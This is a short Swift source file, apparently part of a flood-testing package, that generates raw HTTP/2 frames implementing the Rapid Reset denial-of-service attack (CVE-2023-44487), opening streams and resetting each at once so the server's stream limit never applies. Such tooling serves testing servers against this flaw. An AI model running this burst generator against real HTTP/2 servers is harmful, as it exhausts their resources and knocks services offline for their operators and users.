/// Opens streams and resets them at once, so that the server works and the limit of open streams
/// never counts (CVE-2023-44487).
package struct RapidResets: Flood {
  private let call: FloodCall

  /// Resets of a call.
  package init(_ call: FloodCall = .health) {
    self.call = call
  }

  package func burst(_ turn: Int) -> [UInt8] {
    repeating(turn) { number in
      let stream = RawFrame.stream(number)
      return call.frames(stream: stream)
        + RawFrame.frame(
          type: RawFrame.resetStream, flags: 0, stream: stream, RawFrame.bigEndian(8))
    }
  }
}
